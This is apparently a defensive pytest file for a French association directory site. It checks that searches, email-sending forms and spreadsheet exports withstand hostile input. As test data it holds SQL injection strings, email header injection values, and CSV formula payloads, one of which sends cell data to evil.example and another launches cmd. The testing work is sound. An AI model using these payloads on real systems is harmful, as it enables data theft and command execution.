"""Hostile input: search boxes fed SQL, regexes, control characters and floods; line breaks that would add email
headers; formulas that a spreadsheet would run from the directory's CSV export.

The site search (/recherche/) and the API's search already face the same queries in
tests/search/test_hostile_input.py and tests/publications/test_api.py; here are the directory, its exports and map,
and a working group's library search.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.cache import cache
from django.test import Client

from casi_workspace.models import (
    EventPage,
    MembershipApplication,
    NewsletterSubscriber,
    OrganisationPage,
    WorkingGroupMembership,
    WorkingGroupPage,
)
from tests.helpers import french
from tests.permissions.support import form_data
from tests.publications.moderation.helpers import edit_page, sign_in
from tests.publications.proposals.conftest import _local
from tests.workgroups.helpers import client_for, url

from .support import APPLICATION, INJECTED, assert_single_header_email, content

pytestmark = pytest.mark.django_db

User = get_user_model()

HOSTILE_QUERIES = {
    "sql": "' OR 1=1 --",
    "sql union": "x' UNION SELECT password FROM auth_user --",
    "regex": ".*(a+)+$",
    "nul and control characters": "a\x00b\x01\x1b[31m\x7f",
    "500 words": " ".join(f"mot{number}" for number in range(500)),
    "10,000 characters": "x" * 10_000,
}
SEARCHES = {
    "directory": ("/annuaire/", "q", None),
    "directory CSV export": ("/annuaire/export/csv/", "q", None),
    "directory map": ("/annuaire/carte/", "q", None),
    "group library": ("/groupes/ecsi/", "q", "membre-gt"),
}


# Signing in and the admin's menus cost some queries; a search that ran one per word or per character would not fit.
MAX_QUERIES = 80


@pytest.fixture(autouse=True)
def _fresh_cache():
    """The public forms are rate-limited in the cache: each test starts with an empty window."""
    cache.clear()
    yield
    cache.clear()


@pytest.mark.parametrize("query", HOSTILE_QUERIES)
@pytest.mark.parametrize("search", SEARCHES)
def test_a_hostile_query_is_answered_in_bounded_work_never_with_a_server_error(
    search, query, django_assert_max_num_queries
):
    """The work a hostile string costs is bounded by queries, not by a clock (timings are the benchmark's)."""
    address, parameter, username = SEARCHES[search]
    client = client_for(User.objects.get(username=username)) if username else Client()
    with django_assert_max_num_queries(MAX_QUERIES):
        response = client.get(address, {parameter: HOSTILE_QUERIES[query], "page": "2"})
        body = content(response)  # a streamed export is read to its end
    assert response.status_code in (200, 400), response.status_code
    assert "<script" not in HOSTILE_QUERIES[query] or HOSTILE_QUERIES[query] not in body
    if search == "directory CSV export" and response.status_code == 200:
        assert body.startswith("\ufeffnom,")  # still the CSV, not an error page


# --- Header injection in emails -------------------------------------------------------------------------------


def _coordinator_addresses() -> set[str]:
    return set(
        User.objects.filter(groups__name="Coordination du réseau", is_active=True).values_list("email", flat=True)
    )


def test_a_visitors_event_with_line_breaks_sends_single_header_emails(django_capture_on_commit_callbacks):
    """The title reaches the subject of the coordinators' notification; the name and address their body."""
    data = {
        "proposer_name": f"Maïwenn\r\nBcc: {INJECTED}",
        "proposer_email": "maiwenn@example.org",
        "organisation_name": f"Lycée\r\nCc: {INJECTED}",
        "title": f"Forum\r\nBcc: {INJECTED}\r\n\r\nCorps injecté",
        "description": "Ouvert à tous.",
        "start": _local(30, 14),
        "end": _local(30, 18),
        "commune": "Brest",
        "department": "29",
    }
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().post("/agenda/proposer/", data)
    assert response.status_code == 302  # accepted, each one-line field put on one line
    # The one-line fields are stored on one line: the title, the names.
    event = EventPage.objects.get(title__startswith="Forum")
    assert event.title == f"Forum Bcc: {INJECTED} Corps injecté"
    assert "\n" not in event.proposer_name and "\r" not in event.proposer_name
    assert mail.outbox, "the coordinators are told of the proposal"
    coordinators = _coordinator_addresses()
    for message in mail.outbox:
        assert set(message.recipients()) <= coordinators
        assert_single_header_email(message, message.to)


def test_an_account_name_with_line_breaks_reaches_the_join_request_email_on_one_line(
    login, django_capture_on_commit_callbacks
):
    """membre-gt renames itself in its account settings, then asks to join a group run on request."""
    client = login("membre-gt")
    data = form_data(client.get("/admin/account/").content.decode(), "w-editor-form")
    data["name_email-first_name"] = [f"Gwenola\r\nBcc: {INJECTED}"]
    data["name_email-last_name"] = [f"Le Du\nCc: {INJECTED}"]
    assert client.post("/admin/account/", data).status_code in (200, 302)
    group = WorkingGroupPage.objects.get(slug="financements")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url("group_join", group_id=group.pk), {"message": f"Bonjour\r\nBcc: {INJECTED}"})
    assert response.status_code == 302
    assert mail.outbox, "the group's coordinators are told of the request"
    coordinator = User.objects.get(username="animation-gt")
    for message in mail.outbox:
        assert_single_header_email(message, [coordinator.email])


@pytest.mark.parametrize(
    "identifier", [f"membre-gt-2\r\nBcc: {INJECTED}", f"membre-gt-2@example.org\nBcc: {INJECTED}", f"{INJECTED}"]
)
def test_a_group_invitation_to_an_address_with_line_breaks_is_refused(identifier, django_capture_on_commit_callbacks):
    group = WorkingGroupPage.objects.get(slug="financements")
    coordinator = User.objects.get(username="animation-gt")
    before = WorkingGroupMembership.objects.filter(working_group=group).count()
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(coordinator).post(url("group_invite", group_id=group.pk), {"identifier": identifier})
    assert response.status_code == 400
    assert french("No account has this username or email address.") in content(response)
    assert WorkingGroupMembership.objects.filter(working_group=group).count() == before
    assert mail.outbox == []


def test_an_application_with_line_breaks_sends_its_approval_to_the_contact_only(
    login, django_capture_on_commit_callbacks
):
    data = {
        **APPLICATION,
        "organisation_name": f"Solidarité\r\nBcc: {INJECTED}",
        "contact_name": f"Nolwenn\r\nBcc: {INJECTED}",
        "contact_email": "nolwenn@sqb.example.org",
        "motivation": f"Bonjour\r\nBcc: {INJECTED}",
    }
    response = Client().post("/adherer/", data)
    assert response.status_code == 302  # accepted, each one-line field put on one line
    application = MembershipApplication.objects.get(contact_email="nolwenn@sqb.example.org")
    assert (application.organisation_name, application.contact_name) == (
        f"Solidarité Bcc: {INJECTED}",
        f"Nolwenn Bcc: {INJECTED}",
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = login("coordination").post(
            f"/admin/casi_workspace/applications/approve/{application.pk}/", {"message": f"Bienvenue\r\nCc: {INJECTED}"}
        )
    assert response.status_code == 302
    (message,) = mail.outbox
    assert_single_header_email(message, ["nolwenn@sqb.example.org"])


@pytest.mark.parametrize(
    "email",
    [f"lectrice@example.org\r\nBcc: {INJECTED}", f"lectrice@example.org\nCc:{INJECTED}", f"{INJECTED}\r\n"],
)
def test_a_newsletter_address_with_line_breaks_is_refused_in_french(email, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().post("/lettre/", {"email": email})
    if email.strip() == INJECTED:  # only trailing white space: a valid address once trimmed, no header added
        assert response.status_code == 302
        assert all(message.to == [INJECTED] for message in mail.outbox)
        return
    assert response.status_code == 400
    assert french("Enter a valid email address, such as nom@exemple.fr.") in content(response)
    assert not NewsletterSubscriber.objects.filter(email__startswith="lectrice@").exists()
    assert mail.outbox == []


@pytest.mark.parametrize(("address", "field"), [("/adherer/", "contact_email"), ("/admin/password_reset/", "email")])
def test_other_address_fields_refuse_line_breaks(address, field, django_capture_on_commit_callbacks):
    email = f"asso-a@example.org\r\nBcc: {INJECTED}"
    data = {**APPLICATION, field: email} if address == "/adherer/" else {field: email}
    before = MembershipApplication.objects.count()
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().post(address, data)
    assert response.status_code == 200  # the form again, with the error on the address
    assert list(response.context["form"].errors) == [field]
    assert MembershipApplication.objects.count() == before
    assert mail.outbox == []


# --- Formulas in the directory's CSV export ----------------------------------------------------------------------


FORMULAS = {
    "address": '=HYPERLINK("https://evil.example/?"&A2;"Mettre à jour")',
    "commune": "@SUM(1+1)*cmd|' /C calc'!A0",
    "acronym": "+1+1",
}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_csv_export_does_not_hand_formulas_to_spreadsheets(client):
    """An editor types a formula into its association's card; whoever opens the open-data CSV in a spreadsheet
    must see text, not run it (OWASP "CSV injection"): cells starting with = + - @ are to be neutralised."""
    organisation = OrganisationPage.objects.get(slug="brest-sahel-solidarite")
    sign_in(client, "asso-a")
    edit_page(client, organisation, action="action-publish", **FORMULAS)
    organisation.refresh_from_db()
    assert organisation.address == FORMULAS["address"]  # the editor could save it
    client.logout()

    response = Client().get("/annuaire/export/csv/", {"q": "Brest Sahel"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(content(response).lstrip("\ufeff"))))
    (row,) = [row for row in rows if row["url"].endswith("/brest-sahel-solidarite/")]
    dangerous = {
        column: cell for column, cell in row.items() if cell and cell[0] in "=+-@\t\r" and not _is_number(cell)
    }
    assert dangerous == {}, f"cells a spreadsheet would run as formulas: {dangerous}"


def test_the_excel_export_keeps_formulas_as_text(client):
    """In the workbook, what an editor typed is a text cell, whatever it starts with: no cell is a formula."""
    from openpyxl import load_workbook

    organisation = OrganisationPage.objects.get(slug="brest-sahel-solidarite")
    sign_in(client, "asso-a")
    edit_page(client, organisation, action="action-publish", **FORMULAS)
    client.logout()

    response = Client().get("/annuaire/export/xlsx/", {"q": "Brest Sahel"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert {FORMULAS["address"], FORMULAS["commune"], FORMULAS["acronym"]} <= {cell.value for cell in cells}
